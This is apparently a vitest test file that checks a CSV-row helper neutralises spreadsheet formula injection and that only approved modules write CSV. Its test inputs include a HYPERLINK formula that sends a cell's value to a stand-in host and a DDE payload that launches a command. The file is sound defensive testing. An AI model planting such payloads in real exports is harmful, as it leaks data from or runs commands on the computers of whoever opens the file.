/** Tables that people open in a spreadsheet: no cell of anybody's becomes a formula. */
import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import { expect, it } from 'vitest'
import { csvRow } from '@/lib/text/csv-row'

it.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("http://elsewhere.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
])('%j is text', (text) => {
  const [cell = ''] = /^"?'/.exec(csvRow([text])) ?? []
  expect(cell).toMatch(/'$/)
})

it('numbers stay numbers, and ordinary text stays as it is', () => {
  expect(csvRow([-1.5, 'a-b', 'x=y', null])).toBe('-1.5,a-b,x=y,\r\n')
})

it('whoever writes CSV does it by the one function; a dataset in its published form, and a file that is given back, are the exceptions', () => {
  const files = execFileSync('git', ['ls-files', 'lib', 'app', 'components'], { encoding: 'utf8' }).split('\n')
  const writers = files.filter(
    (file) =>
      existsSync(file) &&
      /\.tsx?$/.test(file) &&
      !/\.test\.tsx?$/.test(file) &&
      /replaceAll\('"', '""'\)/.test(readFileSync(file, 'utf8')),
  )
  expect(writers).toEqual(['lib/platform/server/streams/plain-csv-row.ts', 'lib/text/csv-row.ts'])
})
